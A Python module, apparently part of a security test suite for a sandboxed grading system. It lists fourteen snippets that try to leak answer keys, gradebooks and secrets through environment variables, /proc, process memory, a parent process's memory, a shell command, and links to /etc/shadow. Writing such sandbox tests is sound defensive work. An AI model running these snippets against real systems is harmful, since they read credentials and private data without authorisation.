r"""답, 다른 학생, 채점하는 컴퓨터를 엿보려는 것. 본 것은 값과 오류로 모두 내보냅니다."""

from attacks.corpus import Attack
from attacks.resources import in_check

# 본 것을 값(글)과 오류 양쪽으로 내보냅니다: 어느 쪽에도 비밀이 있으면 안 됩니다.
_SEND = "return repr(seen)[:6_000_000]"

_ENVIRONMENT = """
import os, sys
seen = [dict(os.environ), sys.argv, sys.path, os.getcwd()]
"""
_PROC = """
import os
seen = []
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "maps", "cwd", "root", "exe", "stack", "task"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                seen.append(file.read(200_000).decode("utf-8", "replace"))
        except (OSError, NotADirectoryError):
            pass
"""
_ROOTS = """
import os
seen = []
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for path in ("{{DECOY}}/gradebook.sqlite", "{{EXERCISE}}/exercise.md"):
        try:
            with open(f"/proc/{pid}/root{path}", "rb") as file:
                seen.append(file.read(100_000).decode("utf-8", "replace"))
        except OSError:
            pass
"""
_PATHS = """
import os
seen = []
for top in ("{{DECOY}}", "{{EXERCISE}}", "{{HOME}}", "/home", "/var", "/opt", "/mnt", "/srv"):
    for folder, _, files in os.walk(top):
        for name in files[:500]:
            if not name.endswith((".pyc", ".woff2", ".ttf", ".otf")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        seen.append((folder, name, file.read(20_000).decode("utf-8", "replace")))
                except OSError:
                    pass
"""
_WALK = """
import os
seen = []
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "site-packages")]
    seen += [os.path.join(folder, name) for name in files if name.endswith((".md", ".ipynb", ".sqlite", ".csv"))]
"""
_FRAMES = """
import gc, sys
seen = []
frame = sys._getframe()
while frame:
    seen.append((frame.f_code.co_name, repr(frame.f_locals)[:50_000], list(frame.f_globals)[:500]))
    frame = frame.f_back
"""
_GC = """
import gc, re
seen = []
wanted = re.compile("[r]tol|{{PREFIX}}[0-9]{4}|[L]OSES|[B]EGIN SOL")
for thing in gc.get_objects():
    for part in gc.get_referents(thing):
        if type(part) in (str, bytes) and len(part) < 20_000:
            text = part if type(part) is str else part.decode("utf-8", "replace")
            if wanted.search(text):
                seen.append(text)
"""
_HEAP = """
import re
seen = []
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        place, rights = line.split()[:2]
        start, end = (int(part, 16) for part in place.split("-"))
        if "r" not in rights or "w" not in rights or end - start > 200_000_000:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        for found in re.finditer(b"({{PREFIX}}[0-9a-f]{4,40}[^\\x00]{0,60})", data):
            seen.append(found[1].decode("utf-8", "replace"))
"""
_HISTORY = """
import linecache, sys
names = ("In", "Out", "_ih", "_oh", "_dh", "_", "__", "_i", "_ii")
main = sys.modules["__main__"].__dict__
seen = [repr(main.get(name)) for name in names]
seen += [repr(linecache.cache)[:500_000]]
try:
    seen += [list(get_ipython().history_manager.get_range())]
    seen += [repr(get_ipython().user_ns_hidden), repr(get_ipython().config)]
except Exception as error:
    seen.append(repr(error))
"""
_MODULES = """
import sys
seen = [(name, repr(vars(module))[:3000]) for name, module in list(sys.modules.items())
        if name.startswith(("coursekit", "__main__", "nbval", "pytest"))]
"""
_PARENT = """
import os
seen = []
for pid in {1, os.getppid()}:
    try:
        maps = open(f"/proc/{pid}/maps").read()
        for line in maps.splitlines():
            if "rw-p" not in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(start)
                data = memory.read(min(end - start, 50_000_000))
            for word in (b"rtol", b"{{PREFIX}}"):
                place = data.find(word)
                while place >= 0 and len(seen) < 200:
                    seen.append(data[place:place + 60].decode("utf-8", "replace"))
                    place = data.find(word, place + 1)
    except OSError as error:
        seen.append(repr(error))
"""
_DESCRIPTORS = """
import os
seen = []
for fd in range(256):
    try:
        seen.append(os.readlink(f"/proc/self/fd/{fd}"))
        if os.path.isfile(f"/proc/self/fd/{fd}"):
            seen.append(os.pread(fd, 100_000, 0).decode("utf-8", "replace"))
    except OSError:
        pass
"""
_SHELL = """
import subprocess
seen = subprocess.run("cat {{DECOY}}/* {{EXERCISE}}/*; env; ps axe; id; mount; ls -laR ~ /tmp",
    shell=True, capture_output=True, text=True, errors="replace").stdout
"""
_LINKS = """
import os
seen = []
for number, target in enumerate(("{{DECOY}}/gradebook.sqlite", "{{EXERCISE}}/exercise.md", "/etc/shadow")):
    for make in (os.symlink, os.link):
        try:
            name = f"link-{number}-{make.__name__}"
            make(target, name)
            seen.append(open(name, errors="replace").read())
        except OSError:
            pass
"""


def _attack(name: str, tries: str, code: str) -> Attack:
    return Attack(name, tries, in_check(code.strip() + "\n" + _SEND))


READING = (
    _attack("environment", "환경 변수", _ENVIRONMENT),
    _attack("/proc", "다른 프로세스", _PROC),
    _attack("/proc/*/root", "다른 프로세스의 뿌리", _ROOTS),
    _attack("known places", "아는 자리의 파일", _PATHS),
    _attack("the whole tree", "노트북과 성적표를 찾음", _WALK),
    _attack("frames", "부른 쪽의 변수", _FRAMES),
    _attack("garbage collector", "기억의 모든 객체", _GC),
    _attack("own memory", "복제 전에 남은 바이트", _HEAP),
    _attack("history", "In, Out, linecache", _HISTORY),
    _attack("modules", "모듈의 변수", _MODULES),
    _attack("the parent's memory", "감시자의 기억", _PARENT),
    _attack("descriptors", "물려받은 파일", _DESCRIPTORS),
    _attack("shell", "셸로 읽음", _SHELL),
    _attack("links", "심볼릭 링크와 하드 링크", _LINKS),
)
